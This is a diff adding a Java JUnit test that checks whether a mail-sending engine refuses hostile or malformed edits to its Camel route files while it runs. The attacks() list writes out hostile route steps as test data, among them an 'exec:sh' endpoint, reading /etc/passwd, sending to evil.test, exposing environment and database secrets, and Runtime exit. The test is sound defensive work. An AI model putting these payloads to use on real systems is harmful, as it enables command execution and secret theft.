@@ -1,0 +1,374 @@
+package io.outrider;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.outrider.mail.Address;
+import io.outrider.routes.Refusals;
+import io.outrider.sandbox.Accepted;
+import java.io.IOException;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+import org.apache.camel.CamelContext;
+import org.apache.camel.Route;
+import org.apache.camel.ServiceStatus;
+import org.awaitility.Awaitility;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Promises 2 and 6 against a person who edits {@code routes/} while the sandbox sends at full speed. */
+class RouteEditsTest {
+    private static final Duration PATIENCE = Duration.ofMinutes(2);
+    private static final Duration SOON = Duration.ofSeconds(60);
+    private static final String SEND = "sending/send-due-slots.camel.yaml";
+    private static final String STEP = "        - bean:\n            ref: sweep\n            method: sweep\n";
+
+    @TempDir
+    Path home;
+
+    private final HttpClient http = HttpClient.newHttpClient();
+    private final Map<String, String> originals = new HashMap<>();
+
+    @Test
+    void noEditStopsARouteOrReachesRoundAPromise() throws Exception {
+        copy("routes");
+        copy("config");
+        try (Engine engine = Engine.start(home, environment())) {
+            Awaitility.await()
+                    .atMost(PATIENCE)
+                    .until(() -> !engine.sandbox().world().accepted().isEmpty());
+            Set<String> routes = running(engine);
+            Map<String, byte[]> attacks = attacks();
+            Map<String, byte[]> accidents = accidents();
+            assertThat(attacks).hasSizeGreaterThanOrEqualTo(20);
+            assertThat(accidents).hasSizeGreaterThanOrEqualTo(30);
+            String last = "";
+            for (Map<String, byte[]> edits : List.of(attacks, accidents)) {
+                for (Map.Entry<String, byte[]> edit : edits.entrySet()) {
+                    String file = edit.getKey().substring(0, edit.getKey().indexOf(' '));
+                    if (!last.isEmpty() && !file.equals(last)) {
+                        takeBack(engine, last);
+                    }
+                    refused(engine, edit.getKey(), edit.getValue(), routes);
+                    last = file;
+                }
+            }
+            takeBack(engine, last);
+            deletedFileIsRefused(engine, routes);
+            goodEditIsTakenInTheMiddleOfASend(engine);
+            theApiFollowsItsFile(engine);
+            removedThrottleIsTakenAndSendsNothingTwice(engine);
+            assertThat(running(engine)).isEqualTo(routes);
+            assertThat(engine.sandbox().world().duplicates()).isEmpty();
+            assertThat(sentToSuppressed(engine)).isEmpty();
+        }
+    }
+
+    /** After the edit: a finding in that file, everything runs, and health says so. */
+    private void refused(Engine engine, String name, byte[] content, Set<String> routes) throws Exception {
+        String file = name.substring(0, name.indexOf(' '));
+        Path path = home.resolve("routes").resolve(file);
+        Files.createDirectories(path.getParent());
+        Files.write(path, content);
+        Awaitility.await(name).atMost(SOON).untilAsserted(() -> assertThat(
+                        engine.live().findings())
+                .extracting(Refusals.Refusal::finding)
+                .as(name)
+                .anySatisfy(f -> {
+                    assertThat(f.file()).isEqualTo(file);
+                    assertThat(f.line()).isPositive();
+                }));
+        assertThat(running(engine)).as(name).isEqualTo(routes);
+        assertThat(get(engine, "/health")).contains("\"degraded\"", file + ":");
+    }
+
+    private void takeBack(Engine engine, String file) throws IOException {
+        Path path = home.resolve("routes").resolve(file);
+        if (originals.containsKey(file)) {
+            Files.writeString(path, originals.get(file));
+        } else {
+            Files.delete(path);
+        }
+        Awaitility.await(file).atMost(SOON).until(() -> engine.live().findings().isEmpty());
+    }
+
+    private void deletedFileIsRefused(Engine engine, Set<String> routes) throws Exception {
+        Files.delete(home.resolve("routes/inbox/handle-mail.camel.yaml"));
+        Awaitility.await().atMost(SOON).untilAsserted(() -> assertThat(
+                        engine.live().findings())
+                .extracting(r -> r.finding().toString())
+                .anySatisfy(f -> assertThat(f)
+                        .startsWith("inbox/read-mailboxes.camel.yaml:")
+                        .contains("target is 'direct:handle-mail'")));
+        assertThat(running(engine)).isEqualTo(routes);
+        takeBack(engine, "inbox/handle-mail.camel.yaml");
+    }
+
+    private void goodEditIsTakenInTheMiddleOfASend(Engine engine) throws Exception {
+        int before = engine.sandbox().world().accepted().size();
+        Awaitility.await()
+                .atMost(PATIENCE)
+                .until(() -> engine.sandbox().world().accepted().size() > before);
+        String good = originals.get(SEND).replace("one mail after the other", "one after the other, as edited");
+        write(SEND, good);
+        long written = System.nanoTime();
+        Awaitility.await()
+                .pollInterval(Duration.ofMillis(10))
+                .atMost(PATIENCE)
+                .until(() -> "One mailbox's group, one after the other, as edited"
+                        .equals(description(engine, "send-group")));
+        Duration took = Duration.ofNanos(System.nanoTime() - written);
+        System.out.println("a good edit took effect " + took.toMillis() + " ms after its last write");
+        assertThat(took).isLessThan(Duration.ofSeconds(2));
+        assertThat(engine.live().findings()).isEmpty();
+    }
+
+    private void theApiFollowsItsFile(Engine engine) throws Exception {
+        String file = "console/serve-api.camel.yaml";
+        write(file, originals.get(file).replace("description: Counts by stage", "description: Counts, as edited"));
+        Awaitility.await().atMost(SOON).untilAsserted(() -> assertThat(get(engine, "/api/openapi.json"))
+                .containsOnlyOnce("Counts, as edited")
+                .doesNotContain("Counts by stage"));
+        String overview = "console/read-overview.camel.yaml";
+        write(
+                overview,
+                originals.get(overview).replace("description: Profile, version", "description: The profile, version"));
+        Awaitility.await().atMost(SOON).until(() -> description(engine, "read-status")
+                .startsWith("The profile"));
+        for (String path : List.of("/api/v1/status", "/api/v1/stages", "/api/v1/routes")) {
+            assertThat(get(engine, path)).as(path).startsWith("{").doesNotContain("\"error\"");
+        }
+    }
+
+    private void removedThrottleIsTakenAndSendsNothingTwice(Engine engine) throws Exception {
+        String text = originals.get(SEND);
+        int from = text.indexOf("              - throttle:");
+        write(SEND, text.substring(0, from) + text.substring(text.indexOf("              - to:", from)));
+        Awaitility.await().atMost(PATIENCE).until(() -> description(engine, "send-group")
+                .equals("One mailbox's group, one mail after the other"));
+        assertThat(engine.live().findings()).isEmpty();
+        int before = engine.sandbox().world().accepted().size();
+        Awaitility.await()
+                .atMost(PATIENCE)
+                .until(() -> engine.sandbox().world().accepted().size() >= before + 5);
+    }
+
+    private void write(String file, String text) throws IOException {
+        Path path = home.resolve("routes").resolve(file);
+        Path fresh = path.resolveSibling(".fresh");
+        Files.writeString(fresh, text);
+        Files.move(fresh, path, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
+    }
+
+    /** Twenty and more ways round promise 2. */
+    private Map<String, byte[]> attacks() {
+        Map<String, String> steps = new LinkedHashMap<>();
+        steps.put("foreign mail server", "- to: {uri: 'smtp://mail.test:25'}");
+        steps.put("foreign mail server by header", "- toD: {uri: 'smtps://${header.host}'}");
+        steps.put("mail server by property", "- to: {uri: '{{smtp.timeout}}'}");
+        steps.put("update of a draft", mongo("drafts", "update"));
+        steps.put("removal of suppressions", mongo("suppressions", "remove"));
+        steps.put("save of a mailbox", mongo("mailboxes", "save"));
+        steps.put("reading users", mongo("users", "findAll"));
+        steps.put("a command", mongo("drafts", "command"));
+        steps.put("insert of a draft", mongo("drafts", "insert"));
+        steps.put("a program", "- to: {uri: 'exec:sh'}");
+        steps.put("groovy", "- setBody: {expression: {groovy: {expression: '1'}}}");
+        steps.put("language endpoint", "- to: {uri: 'language:simple:x'}");
+        steps.put("bean by type", "- bean: {beanType: java.lang.Runtime, method: exit}");
+        steps.put("bean endpoint", "- to: {uri: 'bean:sweep?method=recover'}");
+        steps.put("class endpoint", "- to: {uri: 'class:java.lang.Runtime'}");
+        steps.put("a method that is not for routes", "- bean: {ref: sweep, method: recover}");
+        steps.put("a bean that is not for routes", "- bean: {ref: providerWire, method: properties}");
+        steps.put("environment", "- setBody: {expression: {constant: {expression: '{{env:HOME}}'}}}");
+        steps.put("secret of the settings", "- setBody: {expression: {constant: {expression: '{{mongodb.uri}}'}}}");
+        steps.put("file of secrets", "- setBody: {expression: {constant: {expression: 'resource:file:/etc/passwd'}}}");
+        steps.put("write outside", "- to: {uri: 'file:/etc'}");
+        steps.put("write above", "- to: {uri: 'file:data/../..'}");
+        steps.put("foreign host", "- to: {uri: 'http://evil.test/'}");
+        steps.put("foreign client", "- to: {uri: '{{provider.jsearch.url}}', parameters: {proxyHost: evil.test}}");
+        steps.put("reflection", "- setBody: {expression: {simple: {expression: '${body.class.classLoader}'}}}");
+        steps.put("the context", "- setBody: {expression: {simple: {expression: '$simple{camelContext.stop}'}}}");
+        steps.put("the scheduler", "- setBody: {expression: {simple: {expression: '${header.scheduler.shutdown}'}}}");
+        steps.put("exotic strategy", "- aggregate: {aggregationStrategy: '#class:x.Y', steps: []}");
+        steps.put("kamelet", "- to: {uri: 'kamelet:x'}");
+        steps.put("bodies in the log", "- log: {message: '${body}'}");
+        Map<String, byte[]> edits = new LinkedHashMap<>();
+        steps.forEach((name, step) -> edits.put(
+                "sending/sweep-drafts.camel.yaml " + name,
+                bytes(original("sending/sweep-drafts.camel.yaml") + "        " + step + "\n")));
+        edits.put("sending/zweep.camel.yaml second consumer of deliver", bytes(extra("again", "direct:deliver")));
+        edits.put("sending/zweep.camel.yaml the same in other words", bytes(extra("again", "direct://deliver")));
+        edits.put("sending/zweep.camel.yaml second trigger", bytes(extra("again", "quartz:sending/sweep-drafts")));
+        edits.put(
+                "sending/zweep.camel.yaml door without login",
+                bytes(extra("again", "platform-http:/u/{token}\n      parameters: {httpMethodRestrict: PUT}")));
+        edits.put(
+                "console/serve-api.camel.yaml rest to deliver",
+                bytes(original("console/serve-api.camel.yaml").replace("direct:read-status", "direct:deliver")));
+        edits.put(
+                "console/serve-api.camel.yaml rest outside the login",
+                bytes(original("console/serve-api.camel.yaml").replace("path: /api/v1", "path: /u")));
+        edits.put(
+                "errors.camel.yaml hidden failures",
+                bytes(original("errors.camel.yaml")
+                        .replace("deadLetterUri: direct:quarantine", "deadLetterUri: direct:send-alert")));
+        return edits;
+    }
+
+    private static String mongo(String collection, String operation) {
+        return "- to: {uri: 'mongodb:store', parameters: {collection: " + collection + ", operation: " + operation
+                + "}}";
+    }
+
+    /** Thirty and more ways to get it wrong. */
+    private Map<String, byte[]> accidents() throws IOException {
+        String file = "sending/sweep-drafts.camel.yaml";
+        String text = original(file);
+        Map<String, byte[]> edits = new LinkedHashMap<>();
+        Map<String, String[]> words = new LinkedHashMap<>();
+        words.put("unknown step", new String[] {"- bean:", "- baen:"});
+        words.put("unknown key", new String[] {"ref: sweep", "reff: sweep"});
+        words.put("unknown bean", new String[] {"ref: sweep", "ref: swep"});
+        words.put("unknown method", new String[] {"method: sweep", "method: sweeep"});
+        words.put("no method", new String[] {"            method: sweep\n", ""});
+        words.put("unknown option", new String[] {"cron:", "crno:"});
+        words.put("bad cron", new String[] {"\"{{sending.sweep.cron}}\"", "every minute"});
+        words.put("unknown property", new String[] {"{{sending.sweep.cron}}", "{{sending.swep.cron}}"});
+        words.put("unknown configuration", new String[] {"Id: quarantine", "Id: quarantin"});
+        words.put("no configuration", new String[] {"    routeConfigurationId: quarantine\n", ""});
+        words.put("no id", new String[] {"    id: sweep-drafts\n", ""});
+        words.put("no group", new String[] {"    group: sending\n", ""});
+        words.put("foreign group", new String[] {"group: sending", "group: inbox"});
+        words.put("no description", new String[] {"    description: End", "    note: End"});
+        words.put("tab", new String[] {"      steps:", "\tsteps:"});
+        words.put("wrong indentation", new String[] {"      steps:", "     steps:"});
+        words.put("missing colon", new String[] {"steps:", "steps"});
+        words.put("open bracket", new String[] {"ref: sweep", "ref: [sweep"});
+        words.put("open quote", new String[] {"ref: sweep", "ref: \"sweep"});
+        words.put("key twice", new String[] {"ref: sweep", "ref: sweep\n            ref: sweep"});
+        words.put("alias", new String[] {"ref: sweep", "ref: *sweep"});
+        words.put("unknown top level", new String[] {"- route:", "- rout:"});
+        words.put("unknown scheme", new String[] {"quartz:sending", "qartz:sending"});
+        words.put("bad name of an endpoint", new String[] {"quartz:sending/sweep-drafts", "quartz:"});
+        words.put("no header", new String[] {"# Trigger:", "# Trigered:"});
+        words.forEach((name, change) -> {
+            assertThat(text).as(name).contains(change[0]);
+            edits.put(file + " " + name, bytes(text.replace(change[0], change[1])));
+        });
+        edits.put(file + " empty", new byte[0]);
+        edits.put(file + " half written", bytes(text.substring(0, text.indexOf("parameters:") + 5)));
+        edits.put(file + " only comments", bytes(text.substring(0, text.indexOf("- route:"))));
+        edits.put(file + " byte order mark", bytes("\uFEFF" + text));
+        edits.put(file + " binary", new byte[] {0, (byte) 0xff, (byte) 0xfe, 7, 'r', 0});
+        edits.put(file + " ten megabytes", bytes(text + "# x\n".repeat(2_500_000)));
+        edits.put(file + " duplicate id", bytes(text + route("sweep-drafts", "direct:again")));
+        edits.put(file + " unknown target", bytes(text + "        - to: {uri: 'direct:nobody'}\n"));
+        edits.put(
+                file + " bad expression",
+                bytes(text + "        - setBody: {expression: {simple: {expression: '${body'}}}\n"));
+        edits.put(file + " endless nesting", bytes("[".repeat(30_000)));
+        edits.put(
+                "sending/use.camel.yaml deleted template",
+                bytes(header() + "- templatedRoute:\n    routeTemplateRef: gone\n    routeId: use\n"));
+        edits.put("Sending.camel.yaml bad name", bytes(text));
+        assertThat(text).contains(STEP);
+        return edits;
+    }
+
+    private static String extra(String id, String from) {
+        return header() + route(id, from);
+    }
+
+    private static String header() {
+        return "# Does a thing again.\n# Trigger:   somebody.\n# Guarantee: none at all.\n# Failure:   quarantine.\n\n";
+    }
+
+    private static String route(String id, String from) {
+        return "\n- route:\n    id: " + id + "\n    group: sending\n    description: Again\n"
+                + "    routeConfigurationId: quarantine\n    from:\n      uri: " + from + "\n      steps:\n" + STEP;
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private String original(String file) {
+        return originals.get(file);
+    }
+
+    private static CamelContext context(Engine engine) {
+        return engine.live().context();
+    }
+
+    /** Empty in the instant in which a route is made anew. */
+    private static String description(Engine engine, String route) {
+        Route now = context(engine).getRoute(route);
+        return now == null ? "" : now.getDescription();
+    }
+
+    private static Set<String> running(Engine engine) {
+        return context(engine).getRoutes().stream()
+                .filter(r ->
+                        context(engine).getRouteController().getRouteStatus(r.getRouteId()) == ServiceStatus.Started)
+                .map(r -> r.getRouteId())
+                .collect(Collectors.toCollection(TreeSet::new));
+    }
+
+    private String get(Engine engine, String path) throws Exception {
+        return http.send(
+                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + engine.port() + path))
+                                .build(),
+                        HttpResponse.BodyHandlers.ofString())
+                .body();
+    }
+
+    private void copy(String folder) throws IOException {
+        try (Stream<Path> all = Files.walk(Path.of(folder))) {
+            for (Path from : all.filter(Files::isRegularFile).toList()) {
+                Path to = home.resolve(from);
+                Files.createDirectories(to.getParent());
+                Files.copy(from, to);
+                if (folder.equals("routes")) {
+                    originals.put(Path.of(folder).relativize(from).toString(), Files.readString(from));
+                }
+            }
+        }
+    }
+
+    private static Map<String, String> environment() {
+        Map<String, String> environment = new HashMap<>();
+        environment.put("OUTRIDER_PORT", "0");
+        environment.put("OUTRIDER_MANAGEMENT_PORT", "0");
+        environment.put("OUTRIDER_SANDBOX_SPEED", "0");
+        return environment;
+    }
+
+    private static List<String> sentToSuppressed(Engine engine) {
+        List<String> wrong = new ArrayList<>();
+        for (Accepted mail : engine.sandbox().world().accepted()) {
+            for (String recipient : mail.to()) {
+                engine.stores()
+                        .suppressions()
+                        .forbids(new Address(recipient))
+                        .filter(s -> s.createdAt().isBefore(mail.at()))
+                        .ifPresent(s -> wrong.add(recipient));
+            }
+        }
+        return wrong;
+    }
+}
